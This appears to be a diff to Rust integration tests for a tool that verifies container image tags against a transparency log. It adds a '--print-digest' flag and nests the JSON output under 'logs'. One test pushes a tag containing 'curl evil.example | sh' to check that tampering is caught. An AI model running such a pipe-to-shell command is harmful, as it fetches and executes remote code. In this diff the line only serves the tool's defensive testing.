@@ -77,7 +77,8 @@ fn a_tag_that_is_moved_is_caught_and_stays_on_record() {
     let (user, image) = (&story.user, story.image.as_str());
     let first = story.push("harmless");
     story.observe();
-    user.run(&["verify", image]).exits(0).says(&["ok ", image, "1 witness vouches", &first.to_string(), ORIGIN]);
+    user.run(&["verify", image]).exits(0).says(&["ok ", image, "1 witness vouches", ORIGIN]);
+    user.run(&["verify", "--print-digest", image]).exits(0).says(&[&first.to_string()]);
 
     let second = story.push("curl evil.example | sh");
     user.run(&["verify", image]).exits(1).says(&["mismatch", &first.to_string(), &second.to_string()]);
@@ -115,14 +116,15 @@ fn the_json_answer_has_all_that_the_text_has() {
     assert_eq!((&answer["passes"], &answer["errors"]), (&true.into(), &serde_json::json!([])));
     assert_eq!((&image["image"], &image["verdict"]), (&story.image.as_str().into(), &"ok".into()));
     assert_eq!((&image["served"], &image["digest"]), (&served.as_str().into(), &served.as_str().into()));
-    let (sighting, witness) = (&image["history"]["sightings"][0], &image["history"]["witnesses"][0]);
+    let history = &image["logs"][0]["history"];
+    let (sighting, witness) = (&history["sightings"][0], &history["witnesses"][0]);
     assert_eq!((&sighting["digest"], &sighting["witness"]), (&served.as_str().into(), &story.witness.as_str().into()));
     assert_eq!(
         (&witness["sightings"], &witness["complete"], &witness["inRoster"]),
         (&1.into(), &true.into(), &true.into())
     );
     assert!(sighting["observed"].as_str().unwrap().parse::<Timestamp>().is_ok(), "{sighting}");
-    let log = &answer["log"];
+    let log = &answer["logs"][0];
     assert_eq!(log["origin"], ORIGIN);
     assert!(log["size"].as_u64().unwrap() > 2 && log["tags"] == 1 && log["ageSeconds"].as_u64().unwrap() < 60, "{log}");
 
@@ -256,5 +258,7 @@ fn the_log_may_be_named_in_place_of_the_one_in_the_trust_file() {
     let output = command.env("TAGLOG_LOG", &server.url).output().unwrap();
     assert!(output.status.success(), "{output:?}");
     assert_eq!(user.remembered(), [wait(server.checkpoint()).to_string()]);
-    assert!(user.run(&["verify", &image, "--log", &server.url]).stdout.contains(&digest("a").to_string()));
+    assert!(
+        user.run(&["verify", "--print-digest", &image, "--log", &server.url]).stdout.contains(&digest("a").to_string())
+    );
 }
